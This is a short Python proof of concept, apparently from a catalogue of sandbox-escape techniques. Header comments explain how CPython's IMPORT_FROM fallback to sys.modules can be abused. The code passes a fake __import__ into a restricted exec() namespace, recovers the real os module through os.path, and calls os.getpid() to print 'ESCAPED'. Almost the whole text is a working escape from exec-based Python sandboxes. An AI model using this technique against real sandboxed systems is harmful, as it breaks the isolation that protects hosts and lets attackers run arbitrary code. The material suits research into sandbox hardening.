# technique: IMPORT_FROM looks into the real sys.modules when the attribute is missing: an __import__ of ours answers with __name__ = 'os'
# goal: import
# source: CPython, import_from() in ceval.c
class Package:
    __name__ = 'os'


g = {'__builtins__': {'__import__': lambda *args: Package()}}
exec('from anything import path', g)
print('ESCAPED pid=%d' % g['path'].os.getpid())
